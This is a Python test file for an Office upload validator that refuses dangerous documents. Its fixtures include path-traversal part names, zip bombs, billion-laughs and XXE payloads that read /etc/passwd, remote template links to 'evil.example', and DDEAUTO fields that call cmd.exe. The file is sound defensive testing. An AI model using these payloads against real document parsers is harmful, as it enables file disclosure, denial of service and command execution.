import io
import struct
import zlib

import pytest

from goldenthread.files import archives
from goldenthread.files.kinds import Kind
from goldenthread.rules.refusals import Refused
from tests.files.uploads import archive, in_directory, package, workbook


def refusal(content: bytes) -> str:
    with pytest.raises(Refused) as refused:
        archives.office_kind(io.BytesIO(content))
    return refused.value.sentence


def test_a_chart_inside_a_document_is_taken() -> None:
    content = package({"word/embeddings/chart.xlsx": workbook(), "docProps/": b""})

    assert archives.office_kind(io.BytesIO(content)) == Kind.DOCX


def test_an_archive_inside_an_archive_inside_a_document_is_refused() -> None:
    nested = package({"word/embeddings/a.zip": archive({"b.zip": archive({"c": b"c"})})})

    assert "archives inside archives" in refusal(nested)


@pytest.mark.asvs("5.3.3")
@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd", "/etc/passwd", "word/../../x", "C:\\x", "word\\x", "word//x", "a\x00b"],
)
def test_a_part_that_leads_outside_is_refused(name: str) -> None:
    placeholder = "z" * len(name)
    content = package({placeholder: b"x"}).replace(placeholder.encode(), name.encode())

    assert "damaged" in refusal(content)


def test_two_parts_of_one_name_are_refused() -> None:
    assert "damaged" in refusal(package({"word/x.xml": b"<x/>", "word/X.xml": b"<y/>"}))


def test_a_part_with_another_name_in_its_header_is_refused() -> None:
    content = package({"word/good.xml": b"<x/>"})
    at = content.index(b"word/good.xml")

    assert "damaged" in refusal(content[:at] + b"word/evil.xml" + content[at + 13 :])


def test_a_part_behind_a_password_is_refused() -> None:
    assert "password" in refusal(in_directory(package(), 8, b"\x01\x00"))


@pytest.mark.asvs("5.2.3")
@pytest.mark.parametrize(
    "parts",
    [
        {"main2.xml": b"a" * 90_000_000},  # too much XML
        {"media/a.bin": b"a" * 2_000_000},  # packed a thousand to one
        {f"part{n}": b"" for n in range(archives.MOST_PARTS + 1)},  # too many parts
    ],
    ids=["xml", "ratio", "parts"],
)
def test_a_bomb_is_refused(parts: dict[str, bytes]) -> None:
    assert "unpacks to far more" in refusal(package(parts))


def test_archives_inside_count_towards_what_a_document_may_unpack_to() -> None:
    inside = archive({"sheet.xml": bytes(range(256)) * 4 * 1000})
    parts = {f"word/embeddings/{n}.xlsx": inside for n in range(80)}

    assert "unpacks to far more" in refusal(package(parts))


@pytest.mark.asvs("5.2.3")
def test_a_directory_that_understates_a_part_is_refused() -> None:
    """A reader that trusts the stream and not the directory would unpack all of it."""
    grown = package({"word/media/a.bin": b"a" * 900_000})
    real_checksum_of_the_stated = zlib.crc32(b"a" * 10)
    lying = in_directory(grown, 16, struct.pack("<I", real_checksum_of_the_stated))
    lying = in_directory(lying, 24, struct.pack("<I", 10))

    assert "damaged" in refusal(lying)


def test_a_directory_larger_than_any_document_needs_is_refused_unread() -> None:
    content = package()
    at = content.rindex(b"PK\x05\x06")
    huge = content[: at + 12] + struct.pack("<I", 5_000_000) + content[at + 16 :]

    assert "unpacks to far more" in refusal(huge)


@pytest.mark.parametrize("cut", [10, 60, 200])
def test_an_archive_cut_short_is_refused(cut: int) -> None:
    assert "damaged" in refusal(package()[:-cut])


def test_a_part_with_another_checksum_is_refused() -> None:
    assert "damaged" in refusal(in_directory(package(), 16, b"\x00\x00\x00\x01"))


_BILLION = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>'
)
_OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'


@pytest.mark.asvs("1.5.1")
@pytest.mark.parametrize("xml", [_BILLION, _OUTSIDE, "<!DOCTYPE html><x/>"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-8-sig"])
@pytest.mark.parametrize("part", ["main.xml", "word/_rels/a.rels", "word/item.bin"])
def test_a_document_type_is_refused_wherever_it_hides(xml: str, encoding: str, part: str) -> None:
    if part == "word/item.bin":
        xml = f'<?xml version="1.0" encoding="{encoding.removesuffix("-sig")}"?>{xml}'

    assert "XML declarations" in refusal(package({part: xml.encode(encoding)}))


@pytest.mark.asvs("1.5.1")
def test_a_document_type_after_a_long_comment_is_refused() -> None:
    xml = f"<!--{'long ' * 40_000}-->{_BILLION}".encode()

    assert "XML declarations" in refusal(package(body=xml))


def test_a_document_type_among_the_content_types_is_refused() -> None:
    assert "XML declarations" in refusal(archive({"[Content_Types].xml": _OUTSIDE.encode()}))


def test_xml_that_cannot_be_read_is_refused() -> None:
    assert "damaged" in refusal(package(body=b"\x00\x01 no xml"))
    assert "damaged" in refusal(package(body=b""))


def relations(kind: str, target: str) -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="http://x/relationships/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    ).encode()


@pytest.mark.asvs("1.3.6")
@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "subDocument"])
def test_a_document_that_fetches_from_outside_is_refused(kind: str) -> None:
    away = relations(kind, "HTTPS://evil.example/t.dotm")

    assert "from the internet" in refusal(package({"word/_rels/settings.xml.rels": away}))


def test_a_link_to_follow_and_a_template_on_an_own_drive_are_taken() -> None:
    parts = {
        "word/_rels/document.xml.rels": relations("hyperlink", "https://www.example.org/"),
        "word/_rels/settings.xml.rels": relations("attachedTemplate", "file:///S:/county.dotx"),
    }

    assert archives.office_kind(io.BytesIO(package(parts))) == Kind.DOCX


@pytest.mark.parametrize(
    "xml",
    [
        "<w:p><w:instrText xml:space='preserve'> DDEAUTO c:\\\\cmd.exe</w:instrText></w:p>",
        "<w:p><w:fldSimple w:instr=' dde excel'/></w:p>",
        "<externalLink><ddeLink ddeService='cmd'/></externalLink>",
    ],
)
def test_a_document_that_asks_another_program_is_refused(xml: str) -> None:
    around = f"<x>{'a' * 65_000}{xml}</x>"

    assert "another program" in refusal(package({"word/document.xml": around.encode()}))


def test_a_document_that_speaks_of_such_a_link_is_taken() -> None:
    words = b"<w:p><w:instrText>PAGE</w:instrText><w:t>DDEAUTO is a field of Word</w:t></w:p>"

    assert archives.office_kind(io.BytesIO(package({"word/document.xml": words}))) == Kind.DOCX


def test_a_file_dressed_as_an_object_is_refused() -> None:
    ole = b"\xd0\xcf\x11\xe0" + bytes(65_530) + "\x01Ole10Native".encode("utf-16-le")

    assert "another file inside" in refusal(package({"word/embeddings/oleObject1.bin": ole}))
